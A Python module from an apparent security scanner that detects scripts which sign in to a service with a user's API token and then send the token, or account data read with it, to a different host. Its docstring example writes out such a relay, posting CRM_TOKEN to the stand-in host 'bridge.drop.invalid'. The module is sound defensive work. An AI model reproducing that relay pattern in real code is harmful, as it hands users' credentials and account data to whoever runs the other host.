"""A token the script signs in with at one service, also handed to another host.

The family: a "sync", "bridge" or "report" script reads the user's API token, calls the
token's service with it in the ``Authorization`` header (so it plainly is that service's
key), and then puts the same token into the body, query or headers of a request to a
different host it writes, where whoever runs that host can use it. A key sent only to
its own service, or to this machine or the local network, is not the family; a host the
package documents as its own service is judged by the package's declared destinations.
What such a signed-in call answers (the user's messages, deals, files) posted to another
written host is the same relay of the user's account, one step on (``flow.account-data-relay``).

>>> code = '''tok = os.environ["CRM_TOKEN"]
... requests.get("https://api.crm.invalid/deals", headers={"Authorization": f"Bearer {tok}"})
... requests.post("https://bridge.drop.invalid/push", json={"token": tok})'''
>>> [(f.rule_id, f.line) for f in token_relay_findings("sync.py", code)]
[('flow.token-relay', 3)]
"""

from __future__ import annotations

import re

from .destinations import is_internal, registrable
from .findings import ThreatFinding, line_finding, line_of_offset
from .literal_scan import scanner_for
from .sensitive import is_secret_name

RULE_ID = "flow.token-relay"
DATA_RELAY = "flow.account-data-relay"
_SECRET_READ = re.compile(
    r"\b([A-Za-z_]\w*)\s*(?::\s*\w+\s*)?=\s*(?:os\.environ(?:\.get)?\s*[\[(]\s*|os\.getenv\s*\(\s*"
    r"|process\.env\.|process\.env\[\s*|Deno\.env\.get\s*\(\s*)['\"`]?([A-Za-z_]\w*)"
)
"""``name = os.environ["X_TOKEN"]`` and the same in JavaScript: the variable and the name."""
_REQUEST = re.compile(
    r"\b(?:requests|httpx|session|client|http|https|axios)\.(?:get|post|put|patch|request|delete)\s*\("
    r"|\bfetch\s*\(|\baxios\s*\(|\burlopen\s*\(|\burllib\.request\.Request\s*\(",
)
_URL = re.compile(r"['\"`](https?://([\w.-]+)[^'\"`]*)['\"`]")
_CALL_SPAN = 800
_AUTH_HEADER = r"(?:authorization|private-token|api-key|x-[\w-]*(?:key|token|auth)[\w-]*)"
"""Request headers that carry a credential (a body field named ``token`` is data)."""


def _call_text(text: str, start: int) -> str:
    """The text of a call from its opening parenthesis to the one that closes it."""
    depth = 0
    for index in range(start, min(len(text), start + _CALL_SPAN)):
        if text[index] == "(":
            depth += 1
        elif text[index] == ")":
            depth -= 1
            if depth == 0:
                return text[start : index + 1]
    return text[start : start + _CALL_SPAN]


def _signs_in(call: str, variable: str) -> bool:
    """The variable stands in the call's authentication: a header, ``auth=`` or a bearer."""
    return bool(
        re.search(
            rf"(?i:['\"`]{_AUTH_HEADER}['\"`]\s*:\s*[^,}}\n]*|\bauth\s*=\s*[^,)\n]*|bearer\s+)"
            rf"(?:\{{|\$\{{|['\"`]\s*\+\s*)?\b{re.escape(variable)}\b",
            call,
        )
    )


def token_relay_findings(path: str, text: str) -> list[ThreatFinding]:
    """A finding at each request that hands a token to a host other than the one the script
    signs in to with it."""
    if not path.lower().endswith((".py", ".js", ".mjs", ".cjs", ".ts")):
        return []
    reads = scanner_for(_SECRET_READ).finditer(text)
    secrets = {m.group(1) for m in reads if is_secret_name(m.group(2))}
    if not secrets:
        return []
    calls = []
    for request in _REQUEST.finditer(text):
        call = _call_text(text, text.index("(", request.start()))
        url = _URL.search(call)
        if url:
            calls.append((request.start(), call, url.group(2).lower()))
    lines = text.splitlines()
    findings = []
    for secret in sorted(secrets):
        signed = [(start, host) for start, call, host in calls if _signs_in(call, secret)]
        own = {registrable(host) for _, host in signed}
        if not own:
            continue  # a token never signed in with has no known service to compare with
        answers = {name: host for start, host in signed if (name := _assigned_name(text, start))}
        for start, call, host in calls:
            if registrable(host) in own or is_internal(host) or _signs_in(call, secret):
                continue  # a key sent as a credential elsewhere is the provider policy's case
            line = line_of_offset(text, start)
            if re.search(rf"\b{re.escape(secret)}\b", call):
                description = (
                    f"hands the token it signs in with at {sorted(own)[0]} to {host}, another "
                    "host the script writes"
                )
                findings.append(
                    line_finding(path, lines, line, "8.2", "high", description, RULE_ID)
                )
                continue
            relayed = next(
                (n for n in sorted(answers) if re.search(rf"\b{re.escape(n)}\b", call)), None
            )
            if relayed:
                description = (
                    f"posts {relayed}, read from the user's account at {answers[relayed]} with "
                    f"their token, to {host}, another host the script writes"
                )
                findings.append(
                    line_finding(path, lines, line, "8.2", "high", description, DATA_RELAY)
                )
    return findings


_ASSIGNED_BEFORE = re.compile(
    r"(?:^|[;\s])(?:(?:const|let|var)\s+)?([A-Za-z_$][\w$]*)\s*(?::\s*[\w\[\]]+\s*)?=\s*(?:await\s+)?"
    r"[\w.$]*$"
)
"""``name = requests.get`` up to the call's parenthesis: the name the answer is kept in."""


def _assigned_name(text: str, call_start: int) -> str | None:
    """The variable a call's answer is assigned to on the call's own line, else None."""
    line_start = text.rfind("\n", 0, call_start) + 1
    paren = text.find("(", call_start)
    match = _ASSIGNED_BEFORE.search(text[line_start:paren])
    return match.group(1) if match else None
